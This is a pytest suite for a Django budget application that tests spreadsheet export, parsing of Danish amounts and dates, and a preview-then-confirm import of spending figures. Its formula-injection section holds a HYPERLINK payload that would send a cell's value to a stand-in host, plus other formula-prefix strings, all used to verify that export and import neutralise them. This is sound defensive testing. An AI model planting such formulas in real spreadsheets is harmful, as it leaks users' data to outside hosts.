"""Budgets in and out of spreadsheets: the .xlsx export, and spent-to-date imported with a
preview that saves nothing until the secretariat confirms."""

import datetime as dt
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from budgets.models import BudgetLine, SpentAmount
from budgets.selectors import budget_table_for
from budgets.services import spent_set
from budgets.spreadsheets import (
    SpreadsheetError,
    export_xlsx,
    parse_amount,
    parse_date,
    read_spent_file,
)
from meetings.models import Role
from projects.models import PortfolioChange
from tests.budgets.helpers import AUGUST, BUDGET_URL, PROGRAMLEDELSE, import_seed, text_of
from tests.factories import member

pytestmark = pytest.mark.django_db

SEPTEMBER = dt.date(2025, 9, 30)
# A date cell as openpyxl reads it: a naive datetime at midnight.
MIDNIGHT = dt.datetime.combine(AUGUST, dt.time())


@pytest.fixture
def seed():
    return import_seed()


@pytest.fixture
def secretary(client, seed):
    user = member(seed.committee, Role.SECRETARIAT, first_name="Sofie", last_name="Lindberg")
    client.force_login(user)
    return user


def xlsx(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def upload(client, content: bytes, name: str):
    return client.post(BUDGET_URL + "import/", {"file": _file(content, name)}, format="multipart")


def _file(content: bytes, name: str):

    return SimpleUploadedFile(name, content)


# --- Export ----------------------------------------------------------------------------------


def test_export_opens_again_with_numbers_as_numbers(client, secretary):
    response = client.get(BUDGET_URL + "eksport.xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert 'filename="Budget-DAP-2025.xlsx"' in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert sheet.title == "Budget DAP 2025"
    assert sheet["A1"].value == "Budget for Digital Almen Praksis (DAP) 2025"
    rows = [list(row) for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert rows[0] == [
        "Projekt",
        "Budget 2025 (28/4)",
        "Budget 2025 (31/8)",
        "Forbrug 31/8",
        "Rest 31/8",
    ]
    assert rows[1] == [PROGRAMLEDELSE, 1_615_000, 1_850_000, 909_784, 940_216]
    assert rows[-2] == ["Udisponerede midler", -87_000, 170_000, None, 170_000]
    assert rows[-1] == ["Total", 8_000_000, 8_000_000, 3_969_652, 4_030_348]
    for row in rows[1:]:
        assert all(isinstance(value, int) for value in row[1:] if value is not None)
    assert sheet["B4"].number_format == '#,##0 "kr."'
    # The rests in the file add up like the page's.
    assert sum(row[4] for row in rows[1:-1]) == rows[-1][4]


def test_export_of_a_line_without_spending_leaves_the_cell_empty(seed):
    line = seed.committee.programmes.get(short_name="DAP").budgets.get().lines.first()
    SpentAmount.objects.filter(line=line).delete()

    sheet = load_workbook(io.BytesIO(export_xlsx(budget_table_for("DAP", 2025)))).active

    assert [cell.value for cell in sheet[4]] == [
        PROGRAMLEDELSE,
        1_615_000,
        1_850_000,
        None,
        1_850_000,
    ]


# --- Reading Danish amounts and dates -------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("1.615.000", 1_615_000),
        ("1615000", 1_615_000),
        ("1.615.000 kr.", 1_615_000),
        ("kr. 1.615.000", 1_615_000),
        ("1 615 000", 1_615_000),
        ("1.615.000,00", 1_615_000),
        ("909784.00", 909_784),
        ("0", 0),
        (1_615_000, 1_615_000),
        (1_615_000.0, 1_615_000),
    ],
)
def test_amounts_as_danish_spreadsheets_write_them(value, expected):
    assert parse_amount(value) == expected


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("-87.000", "Beløbet kan ikke være negativt."),
        ("1.615,50", "hele kroner"),
        (909784.5, "hele kroner"),
        ("1.61.000", "er ikke et beløb"),
        ("abc", "er ikke et beløb"),
        ("", "Beløbet mangler"),
        ("١٢٣", "cifrene 0-9"),  # Arabic-Indic digits
        ("１２３", "cifrene 0-9"),  # full-width digits
        ("1.６15.000", "cifrene 0-9"),
    ],
)
def test_bad_amounts_say_what_is_wrong(value, message):
    with pytest.raises(ValueError, match=message):
        parse_amount(value)


@pytest.mark.parametrize("value", ["31-08-2025", "31/8/2025", "2025-08-31", "31.08.2025", MIDNIGHT])
def test_dates_in_the_accepted_formats(value):
    assert parse_date(value) == AUGUST


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("31-02-2025", "findes ikke"),
        ("31-08-25", "fire cifre"),
        ("i går", "er ikke en dato"),
        ("٣١-٠٨-٢٠٢٥", "er ikke en dato"),
    ],
)
def test_bad_dates_say_what_is_wrong(value, message):
    with pytest.raises(ValueError, match=message):
        parse_date(value)


def test_csv_with_semicolons_bom_and_header():
    data = "\ufeffProjekt;Beløb;Dato\r\nKlinikkens cockpit;1.615.000;31-08-2025\r\n".encode()

    parsed = read_spent_file(data)

    assert parsed.kind == "csv"
    assert parsed.has_header
    assert [(r.number, r.project, r.amount, r.date) for r in parsed.rows] == [
        (2, "Klinikkens cockpit", 1_615_000, AUGUST)
    ]


def test_csv_with_commas_no_header_and_windows_1252():
    data = 'Lokale laboratorieanalyser,"1.615.000",2025-08-31\nMinLæge drift,5,31/8/2025\n'
    parsed = read_spent_file(data.encode("cp1252"))

    assert not parsed.has_header
    assert [r.project for r in parsed.rows] == ["Lokale laboratorieanalyser", "MinLæge drift"]


def test_header_columns_in_another_order():
    parsed = read_spent_file(b"Dato;Projekt;Forbrug\n31-08-2025;A;100\n")

    assert parsed.rows[0].project == "A"
    assert parsed.rows[0].amount == 100


def test_rows_with_problems_are_reported_with_their_row_number():
    parsed = read_spent_file(b"A;100;31-08-2025\n;5;31-08-2025\nB;-4;31-08-2025\nC;7;\n")

    assert [(p.number, p.reason) for p in parsed.problems] == [
        (2, "Projektets navn mangler."),
        (3, "Beløbet kan ikke være negativt."),
        (4, "Datoen mangler. Skriv datoen som 31-08-2025, 31/8/2025 eller 2025-08-31."),
    ]


def test_xlsx_rows_with_number_and_date_cells():
    data = xlsx([["Projekt", "Beløb", "Dato"], ["A", 1_000, MIDNIGHT]])

    parsed = read_spent_file(data)

    assert parsed.kind == "xlsx"
    assert parsed.rows[0].amount == 1_000
    assert parsed.rows[0].date == AUGUST


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "Filen er tom."),
        (b"\x00\x01\x02binary", "hverken et Excel-regneark"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1old", r"gamle format \(\.xls\)"),
        (b"x" * (2 * 1024 * 1024 + 1), "for stor"),
    ],
)
def test_files_that_are_no_spreadsheet_are_refused(data, message):
    with pytest.raises(SpreadsheetError, match=message):
        read_spent_file(data)


def test_a_zip_without_xl_part_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w/>")

    with pytest.raises(SpreadsheetError, match="ikke et Excel-regneark"):
        read_spent_file(out.getvalue())


# --- The import: preview, then 'Gem' ---------------------------------------------------------


def test_import_reports_an_unknown_project_and_saves_nothing_until_confirmed(client, secretary):
    content = (
        "Projekt;Beløb;Dato\n"
        f"{PROGRAMLEDELSE};1.000.000;30-09-2025\n"
        "Klinikkens Cockpit;500.000;30-09-2025\n"
        "Klinikkens cokpit;1;30-09-2025\n"
    ).encode()

    preview = upload(client, content, "forbrug.csv")

    assert preview.status_code == 200
    text = text_of(preview)
    assert "2 rækker passer til en budgetlinje" in text
    assert f"2 {PROGRAMLEDELSE} 909.784 kr. (31/8) 1.000.000 kr. 30. september 2025" in text
    assert "1 række kan ikke indlæses" in text
    assert (
        "4 Klinikkens cokpit Ukendt projekt: intet projekt i budget DAP 2025 hedder "
        "»Klinikkens cokpit«. Mente du »Klinikkens cockpit«?"
    ) in text
    assert not SpentAmount.objects.filter(date=SEPTEMBER).exists()
    assert not PortfolioChange.objects.exists()

    token = preview.context["token"]
    saved = client.post(BUDGET_URL + "import/gem/", {"token": token}, follow=True)

    assert saved.redirect_chain[-1][0] == BUDGET_URL + "#budgettabel"
    assert "Forbruget er indlæst: 2 beløb er gemt." in text_of(saved)
    table = budget_table_for("DAP", 2025)
    assert table.row(PROGRAMLEDELSE).spent == 1_000_000
    assert table.row("Klinikkens cockpit").spent == 500_000
    assert table.spent_date == SEPTEMBER
    change = PortfolioChange.objects.get()
    assert change.actor == secretary
    assert change.summary == "Forbrug indlæst fra forbrug.csv: 2 linjer ændret"
    assert "Forbrug indlæst fra forbrug.csv" in text_of(saved)


def test_import_from_xlsx(client, secretary):
    content = xlsx([[PROGRAMLEDELSE, 950_000, "31-08-2025"]])

    preview = upload(client, content, "forbrug.xlsx")
    client.post(BUDGET_URL + "import/gem/", {"token": preview.context["token"]})

    assert budget_table_for("DAP", 2025).row(PROGRAMLEDELSE).spent == 950_000


def test_import_is_refused_if_the_budget_changed_after_the_preview(client, secretary):
    preview = upload(client, f"{PROGRAMLEDELSE};1.000.000;30-09-2025".encode(), "a.csv")
    row = budget_table_for("DAP", 2025).row("Klinikkens cockpit")

    spent_set(line=BudgetLine.objects.get(pk=row.line_id), date=AUGUST, amount=1, actor=None)

    response = client.post(
        BUDGET_URL + "import/gem/", {"token": preview.context["token"]}, follow=True
    )

    assert "Budgettet er blevet ændret, siden forhåndsvisningen blev lavet." in text_of(response)
    assert budget_table_for("DAP", 2025).row(PROGRAMLEDELSE).spent == 909_784


def test_confirming_twice_or_with_a_stale_token_saves_nothing_more(client, secretary):
    first = upload(client, f"{PROGRAMLEDELSE};1.000.000;30-09-2025".encode(), "a.csv")
    second = upload(client, f"{PROGRAMLEDELSE};2.000.000;30-09-2025".encode(), "b.csv")

    stale = client.post(BUDGET_URL + "import/gem/", {"token": first.context["token"]}, follow=True)
    assert "Forhåndsvisningen findes ikke længere" in text_of(stale)
    assert not SpentAmount.objects.filter(date=SEPTEMBER).exists()

    client.post(BUDGET_URL + "import/gem/", {"token": second.context["token"]})
    again = client.post(BUDGET_URL + "import/gem/", {"token": second.context["token"]})

    assert again.status_code == 302
    assert SpentAmount.objects.get(date=SEPTEMBER).amount == 2_000_000
    assert PortfolioChange.objects.count() == 1


def test_a_file_that_is_no_spreadsheet_is_refused_on_the_form(client, secretary):
    response = upload(client, b"\x89PNG\r\n\x1a\n\x00\x00", "forbrug.xlsx")

    assert response.status_code == 200
    assert "hverken et Excel-regneark (.xlsx) eller en tekstfil (.csv)" in text_of(response)
    assert "token" not in response.context


# --- Formula injection ----------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&B4,"Klik her")'


@pytest.mark.parametrize("name", [HYPERLINK, "+1+2", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_export_writes_a_name_that_looks_like_a_formula_as_text(seed, name):
    """A name already in the database (from before names were checked) never becomes a live
    formula: the cell is a text cell with Excel's quote prefix."""
    project = seed.committee.programmes.get(short_name="DAP").budgets.get().lines.first().project
    type(project).objects.filter(pk=project.pk).update(name=name)

    data = export_xlsx(budget_table_for("DAP", 2025))
    sheet = load_workbook(io.BytesIO(data)).active

    cell = sheet["A4"]  # the first line's project
    assert cell.value.replace("\n", "\r") == name
    assert cell.data_type == "s"
    assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_an_imported_row_whose_name_is_a_formula_is_a_problem():
    data = f"{HYPERLINK};1000;31-08-2025\nCockpit;5;31-08-2025\n".encode()
    parsed = read_spent_file(data)

    assert [row.project for row in parsed.rows] == ["Cockpit"]
    assert "formel" in parsed.problems[0].reason
